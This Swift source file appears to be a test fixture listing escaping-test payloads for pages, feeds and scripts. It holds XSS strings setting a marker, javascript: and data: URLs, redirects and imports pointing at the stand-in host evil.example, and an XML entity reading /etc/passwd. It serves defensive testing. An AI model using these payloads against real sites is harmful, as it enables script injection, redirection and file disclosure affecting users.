/// A text that causes harm if a page, feed or script doesn't escape it.
package struct Payload: Sendable {
  package let name: String
  package let text: String

  package init(_ name: String, _ text: String) { (self.name, self.text) = (name, text) }

  package static let harmless = Payload("harmless", "x")

  package static let all = tags + attributes + ends + references + addresses + styles + templates + characters

  /// One payload of each family, for normal runs.
  package static let few = [tags, attributes, ends, references, addresses, styles, templates, characters].compactMap(\.first)
}

extension Payload {
  private static let tags = [
    Payload("script", "<script>top.pwned = 1</script>"),
    Payload("image", "<img src=x onerror=\"top.pwned = 1\">"),
    Payload("drawing", "<svg/onload=top.pwned=1><use href=\"//evil.example/x.svg#a\"/></svg>"),
    Payload("frame", "<iframe srcdoc=\"<script>top.pwned = 1</script>\"></iframe>"),
    Payload("base", "<base href=\"//evil.example/\">"),
    Payload("refresh", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">"),
    Payload("form", "<form action=//evil.example><input autofocus onfocus=\"top.pwned = 1\">"),
    Payload("formula", "<math><mtext><table><mglyph><style><img src=x onerror=top.pwned=1>"),
    Payload("end of blocks", "</p></li></ul></div></main></body></html><plaintext>"),
  ]

  private static let attributes = [
    Payload("double quote", "\" onmouseover=\"top.pwned = 1\" style=\"position:fixed\" x=\""),
    Payload("single quote", "' onfocus='top.pwned = 1' autofocus='"),
    Payload("no quotes", " onpointerenter=top.pwned=1 x=`"),
    Payload("quote and tag", "\"><img src=x onerror=top.pwned=1><a title=\""),
    Payload("quote with an accent", "\"\u{301} onmouseover=\u{301}\"\u{301}top.pwned=1\"\u{301}"),
    Payload("bracket with an accent", "<\u{338}script>\u{338}top.pwned=1<\u{301}/script>"),
  ]

  private static let ends = [
    Payload("end of a script", "</script><script>top.pwned = 1</script>"),
    Payload("end of a title", "</title></textarea></style></noscript></template><img src=x onerror=top.pwned=1>"),
    Payload("comment", "<!--"),
    Payload("comment in a script", "<!--<script>"),
    Payload("end of a comment", "--><img src=x onerror=top.pwned=1><!--"),
    Payload("end of character data", "]]><script>top.pwned = 1</script><![CDATA["),
    Payload("declaration", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<?xml-stylesheet href=\"//evil.example\"?>"),
    Payload("end of a string", "\\\";top.pwned=1;//'; top.pwned=1; \\u003cscript\\u003e`${top.pwned=1}`"),
  ]

  private static let references = [
    Payload("references", "&lt;script&gt;top.pwned = 1&lt;/script&gt;"),
    Payload("numbers", "&#60;img src=x onerror=top.pwned=1&#x3e;&#34; onclick=top.pwned=1 &quot"),
    Payload("twice", "&amp;lt;b&amp;gt; & &amp &; &#0; &#xD800;"),
    Payload("percents", "%3Cscript%3Etop.pwned=1%3C/script%3E%22%20onclick=%00%0d%0a%"),
  ]

  private static let addresses = [
    Payload("javascript", "javascript:top.pwned=1"),
    Payload("javascript with a tab", "JaVa\tScRiPt:top.pwned=1"),
    Payload("javascript with references", "&#106;avascript&colon;top.pwned=1"),
    Payload("javascript with percents", "java%73cript%3Atop.pwned=1"),
    Payload("data", "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg=="),
    Payload("other host", "//evil.example/\\\\evil.example"),
    Payload("another folder", "/../../..//evil.example/?a=b&c=d#e"),
  ]

  private static let styles = [
    Payload("style", ";background:url(//evil.example/x);}*{display:none}"),
    Payload("style with a script", "expression(top.pwned=1);behavior:url(#x);@import '//evil.example/x';\\3c /style>"),
  ]

  private static let templates = [
    Payload("template tag", "{{title}}{{{title}}}{{&title}}{{>head}}{{#site}}{{/site}}"),
    Payload("template delimiters", "{{=<% %>=}}{{% CONTENT_TYPE:TEXT }}{{!"),
    Payload("other templates", "${top.pwned=1} <%= 1 %> {% include x %} {nothing} %s $1 \\1"),
    Payload("Markdown", "[a](javascript:top.pwned=1) ![b](//evil.example/b.png) <https://evil.example> `c` __d__ [^1] | #"),
  ]

  private static let characters = [
    Payload("line ends", "a\nDisallow: /\r\nSitemap: https://evil.example/\rb"),
    Payload("controls", "\u{1}\u{8}\u{B}\u{1B}[31m\u{7F}<script>"),
    Payload("nothing", "\u{0}<scr\u{0}ipt>top.pwned=1</scr\u{0}ipt>"),
    Payload("separators", "\u{2028}\u{2029}\u{85}\u{A0}\u{FEFF}<b>"),
    Payload("directions", "\u{202E}\u{2066}<script>\u{2069}\u{200B}"),
    Payload("wide", "\u{FF1C}script\u{FF1E}\u{FF42}\u{FF02}\u{FF1A}\u{2236}"),
    Payload("wide letters only", "\u{FF42}\u{FF53}\u{301}\u{130}\u{131}"),
    Payload("beyond the plane", "\u{1F3F3}\u{FE0F}\u{200D}\u{1F308}\u{10FFFD}\u{FFFE}<i>"),
  ]
}
